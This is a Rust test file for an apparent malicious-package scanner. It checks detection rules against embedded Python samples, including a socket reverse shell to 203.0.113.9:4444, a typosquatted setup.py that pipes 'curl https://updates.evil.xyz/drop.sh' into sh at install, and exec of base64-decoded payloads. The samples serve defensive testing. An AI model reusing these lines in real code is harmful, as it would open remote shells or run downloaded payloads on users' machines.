//! End-to-end engine behavior on realistic malicious and benign samples.

use malscan::{Engine, Severity, Verdict};

fn engine() -> Engine {
    Engine::new().expect("engine must build")
}

#[test]
fn nested_decode_and_exec_fire_distinct_rules() {
    let result = engine().scan(
        "import base64\n\
         payload = 'aGVsbG8='\n\
         exec(base64.b64decode(payload))\n",
    );

    // The hidden-code rule on the outer exec and the decode rule on the
    // inner call are independent findings.
    let hidden = result
        .findings
        .iter()
        .find(|f| f.rule_id == "EXEC_HIDDEN_CODE")
        .expect("exec-of-decoded-payload should fire");
    assert_eq!(hidden.severity, Severity::Critical);

    let decode = result
        .findings
        .iter()
        .find(|f| f.rule_id == "EVADE_BASE64_DECODE")
        .expect("base64 decode should fire independently");
    assert_eq!(decode.severity, Severity::Warning);

    assert_eq!(result.verdict, Verdict::Danger);
}

#[test]
fn aliased_import_does_not_evade_detection() {
    let direct = engine().scan("import os\nos.system('id')\n");
    let aliased = engine().scan("import os as operating\noperating.system('id')\n");
    let from_import = engine().scan("from os import system\nsystem('id')\n");

    for result in [&direct, &aliased, &from_import] {
        assert!(
            result
                .findings
                .iter()
                .any(|f| f.rule_id == "EXEC_SHELL_COMMAND" && f.severity == Severity::Critical),
            "os.system must be caught regardless of import spelling"
        );
    }
}

#[test]
fn assignment_propagates_alias_one_hop() {
    let result = engine().scan("import os\nrunner = os\nrunner.system('id')\n");
    assert!(result
        .findings
        .iter()
        .any(|f| f.rule_id == "EXEC_SHELL_COMMAND"));
}

#[test]
fn malformed_source_fails_open() {
    let result = engine().scan("def broken(:\n    ???\n");
    assert_eq!(result.verdict, Verdict::Safe);
    // The tree walk is skipped, only text patterns could apply, and this
    // sample has none.
    assert!(result.findings.is_empty());
}

#[test]
fn comments_are_invisible_to_the_walker_but_not_the_text_scan() {
    // os.system in a comment must not produce a call finding, but the IP
    // literal is still caught by the regex pass.
    let result = engine().scan("# os.system('id') at 203.0.113.9\nprint('hi')\n");
    assert!(!result
        .findings
        .iter()
        .any(|f| f.rule_id == "EXEC_SHELL_COMMAND"));
    assert!(result
        .findings
        .iter()
        .any(|f| f.rule_id == "TEXT_IPV4_LITERAL"));
}

#[test]
fn reverse_shell_sample_is_danger() {
    let sample = "\
import socket\n\
import subprocess\n\
import pty\n\
s = socket.socket()\n\
s.connect(('203.0.113.9', 4444))\n\
subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n\
pty.spawn('/bin/bash')\n";

    let result = engine().scan(sample);
    assert_eq!(result.verdict, Verdict::Danger);
    assert!(result
        .findings
        .iter()
        .any(|f| f.rule_id == "NET_REVERSE_SHELL_FD"));
    assert!(result
        .findings
        .iter()
        .any(|f| f.rule_id == "NET_REVERSE_SHELL_SOCKET" && f.severity == Severity::Critical));
}

#[test]
fn malicious_setup_py_sample() {
    let sample = "\
from setuptools import setup\n\
import os\n\
os.system('curl https://updates.evil.xyz/drop.sh | sh')\n\
setup(\n\
    name='requets',\n\
    version='1.0.0',\n\
    install_requires=['git+https://example.com/x.git'],\n\
)\n";

    let result = engine().scan(sample);
    assert_eq!(result.verdict, Verdict::Danger);

    let ids: Vec<&str> = result.findings.iter().map(|f| f.rule_id.as_str()).collect();
    assert!(ids.contains(&"EXEC_SHELL_COMMAND"));
    assert!(ids.contains(&"INSTALL_SETUP_EXEC"));
    assert!(ids.contains(&"META_TYPOSQUATTING"));
    assert!(ids.contains(&"META_URL_DEPENDENCY"));
    assert!(ids.contains(&"META_DESCRIPTION_EMPTY"));
}

#[test]
fn benign_package_is_safe() {
    let sample = "\
import json\n\
import logging\n\
\n\
logger = logging.getLogger(__name__)\n\
\n\
def load(path):\n\
    with open(path) as fh:\n\
        return json.load(fh)\n\
\n\
def save(data):\n\
    logger.info('saving %d records', len(data))\n\
    return json.dumps(data)\n";

    let result = engine().scan(sample);
    assert_eq!(result.verdict, Verdict::Safe);
    assert!(result.findings.is_empty(), "unexpected: {:?}", result.findings);
}

#[test]
fn findings_carry_accurate_positions() {
    let result = engine().scan("x = 1\ny = 2\nimport os\nos.system('id')\n");
    let finding = result
        .findings
        .iter()
        .find(|f| f.rule_id == "EXEC_SHELL_COMMAND")
        .unwrap();
    assert_eq!(finding.line, 4);
    assert_eq!(finding.column, 0);
    assert!(finding.snippet.as_deref().unwrap().contains("os.system"));
}

#[test]
fn repeated_scans_of_the_same_source_are_identical() {
    let engine = engine();
    let source = "\
import os\n\
import base64\n\
# beacon at 203.0.113.9\n\
os.system('id')\n\
exec(base64.b64decode(payload))\n";

    let first = engine.scan(source);
    let second = engine.scan(source);
    assert!(first.findings.len() > 2, "sample should be multi-finding");
    assert_eq!(first, second);
}

#[test]
fn json_round_trip_preserves_result() {
    let result = engine().scan("import os\nos.system('id')\n");
    let json = serde_json::to_string(&result).unwrap();
    let back: malscan::ScanResult = serde_json::from_str(&json).unwrap();
    assert_eq!(result, back);
}
